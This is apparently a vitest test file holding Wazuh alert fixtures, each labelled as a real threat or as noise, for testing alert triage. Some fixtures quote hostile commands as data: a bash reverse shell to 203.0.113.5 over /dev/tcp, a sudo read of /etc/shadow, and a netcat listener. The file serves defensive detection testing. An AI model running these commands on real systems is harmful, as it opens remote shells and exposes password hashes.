import { describe } from 'vitest'
import { check } from '../../test/support/assessment-check.ts'
import type { AlertParts } from '../../test/support/wazuh-alert.ts'

const fileAdded: AlertParts['rule'] = [
  '554',
  5,
  'File added to the system.',
  ['ossec', 'syscheck', 'syscheck_entry_added', 'syscheck_file'],
]
const fileChanged: AlertParts['rule'] = [
  '550',
  7,
  'Integrity checksum changed.',
  ['ossec', 'syscheck', 'syscheck_entry_modified', 'syscheck_file'],
]

describe('Linux', () => {
  const auth = ['syslog', 'sshd', 'authentication_failed', 'invalid_login']
  check('ssh brute force', 'person', {
    rule: [
      '5712',
      10,
      'sshd: brute force trying to get access to the system. Non existent user.',
      ['syslog', 'sshd', 'authentication_failures'],
    ],
    data: { srcip: '203.0.113.9', srcuser: 'admin' },
  })
  check('failures followed by a success', 'person', {
    rule: [
      '40112',
      12,
      'Multiple authentication failures followed by a success.',
      ['syslog', 'attacks', 'authentication_success'],
    ],
    data: { srcip: '203.0.113.9' },
  })
  check('one mistyped password from inside', 'noise', {
    rule: ['5760', 5, 'sshd: authentication failed.', ['syslog', 'sshd', 'authentication_failed']],
    data: { srcip: '192.168.1.20', dstuser: 'ann' },
  })
  check('a logon of an administrator', 'noise', {
    rule: ['5715', 3, 'sshd: authentication success.', ['syslog', 'sshd', 'authentication_success']],
    data: { srcip: '192.168.1.20', dstuser: 'ann' },
  })
  check('an invalid user from the internet, once', 'noise', {
    rule: ['5710', 5, 'sshd: Attempt to login using a non-existent user', auth],
    data: { srcip: '203.0.113.9', srcuser: 'oracle' },
  })
  check('PAM session opened', 'noise', {
    rule: ['5501', 3, 'PAM: Login session opened.', ['pam', 'syslog', 'authentication_success']],
  })
  check('PAM session closed', 'noise', { rule: ['5502', 3, 'PAM: Login session closed.', ['pam', 'syslog']] })
  check('sudo apt', 'noise', {
    rule: ['5402', 3, 'Successful sudo to ROOT executed.', ['syslog', 'sudo']],
    data: { srcuser: 'ann', dstuser: 'root', command: '/usr/bin/apt update' },
  })
  check('sudo reads the password file', 'person', {
    rule: ['5402', 3, 'Successful sudo to ROOT executed.', ['syslog', 'sudo']],
    data: { srcuser: 'www-data', dstuser: 'root', command: '/usr/bin/cat /etc/shadow' },
  })
  check('new user', 'person', {
    rule: ['5902', 8, 'New user added to the system.', ['syslog', 'adduser']],
    data: { dstuser: 'svc2' },
  })
  check('package installed', 'noise', {
    rule: ['2902', 7, 'New dpkg (Debian Package) installed.', ['syslog', 'dpkg', 'config_changed']],
  })
  check('package requested', 'noise', {
    rule: ['2901', 3, 'New dpkg (Debian Package) requested to install.', ['syslog', 'dpkg']],
  })
  check('AppArmor denied', 'noise', {
    rule: ['52002', 3, 'Apparmor DENIED', ['local', 'syslog', 'apparmor']],
  })
  check('failed unit', 'noise', {
    rule: ['40704', 5, 'Systemd: Service exited due to a failure.', ['local', 'systemd']],
  })
  check('rootkit module', 'person', {
    rule: ['5132', 11, 'Unsigned kernel module was loaded', ['syslog', 'linuxkernel']],
    log: 'kernel: reptile: module verification failed: signature and/or required key missing - tainting kernel',
  })
  check('graphics driver module', 'noise', {
    rule: ['5132', 11, 'Unsigned kernel module was loaded', ['syslog', 'linuxkernel']],
    log: 'kernel: nvidia: module verification failed: signature and/or required key missing - tainting kernel',
  })
  check('web shell written', 'person', {
    rule: fileAdded,
    syscheck: { path: '/var/www/html/uploads/x.php', event: 'added', mode: 'realtime', size_after: '812' },
  })
  check('authorized_keys changed', 'person', {
    rule: fileChanged,
    syscheck: { path: '/root/.ssh/authorized_keys', event: 'modified', mode: 'realtime', size_after: '812' },
  })
  check('file in a checkout', 'noise', {
    rule: fileAdded,
    syscheck: {
      path: '/home/ann/project/node_modules/a/index.js',
      event: 'added',
      mode: 'realtime',
      size_after: '90',
    },
  })
  check('document of a person', 'noise', {
    rule: fileChanged,
    syscheck: { path: '/home/ann/notes.txt', event: 'modified', mode: 'realtime', size_after: '90' },
  })
  check('reverse shell in the audit log', 'person', {
    rule: ['80792', 3, 'Audit: Command: /usr/bin/bash', ['audit', 'audit_command']],
    data: { audit: { exe: '/usr/bin/bash', command: 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1' } },
  })
})

describe('Wazuh itself', () => {
  check('agent started', 'noise', { rule: ['503', 3, 'Wazuh agent started.', ['ossec']] })
  check('agent stopped', 'noise', { rule: ['506', 3, 'Wazuh agent stopped.', ['ossec']] })
  check('SCA check failed', 'noise', {
    rule: ['19007', 7, 'CIS Benchmark: Ensure auditing is enabled', ['sca']],
  })
  check('vulnerability', 'noise', {
    rule: ['23505', 10, 'CVE-2024-0001 affects openssl', ['vulnerability-detector']],
  })
  check('ports changed', 'noise', {
    rule: ['533', 7, 'Listened ports status (netstat) changed (new port opened or closed).', ['ossec']],
  })
  check('netcat listens', 'person', {
    rule: ['533', 7, 'Listened ports status (netstat) changed (new port opened or closed).', ['ossec']],
    log: "ossec: output: 'netstat listening ports':\ntcp 0.0.0.0:4444 0.0.0.0:* 5231/nc\n",
  })
  check('log rotated', 'noise', { rule: ['591', 3, 'Log file rotated.', ['ossec']] })
  check('rootcheck on Windows', 'noise', {
    rule: ['510', 7, 'Host-based anomaly detection event (rootcheck).', ['ossec', 'rootcheck']],
  })
  check('VirusTotal', 'person', {
    rule: ['87105', 12, 'VirusTotal: Alert - /tmp/x - 55 engines detected this file', ['virustotal']],
    data: { virustotal: { positives: '55', source: { file: '/tmp/x' } } },
  })
  check('VirusTotal knows nothing', 'noise', {
    rule: ['87103', 3, 'VirusTotal: Alert - No records in VirusTotal database', ['virustotal']],
  })
  check('VirusTotal error', 'noise', {
    rule: ['87101', 3, 'VirusTotal: Error: Public API request rate limit reached', ['virustotal']],
  })
})

describe('the antivirus test file', () => {
  const eicar = '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f'
  check('found by VirusTotal', 'noise', {
    rule: ['87105', 12, 'VirusTotal: Alert - /tmp/a.txt - 66 engines detected this file', ['virustotal']],
    data: {
      virustotal: {
        positives: '66',
        source: { file: '/tmp/a.txt', sha1: '3395856ce81f2b7382dee72602f798b642f14140' },
      },
    },
  })
  check('under another name', 'noise', {
    rule: ['554', 5, 'File added to the system.', ['ossec', 'syscheck', 'syscheck_entry_added']],
    syscheck: { path: '/var/www/html/a.php', event: 'added', sha256_after: eicar, size_after: '68' },
  })
  check('only in name, but called malicious', 'person', {
    rule: [
      '87105',
      12,
      'VirusTotal: Alert - /tmp/eicar.exe - 66 engines detected this file',
      ['virustotal', 'yara'],
    ],
    data: {
      virustotal: {
        positives: '66',
        source: { file: '/tmp/eicar.exe', sha1: '1111111111111111111111111111111111111111' },
      },
    },
  })
})
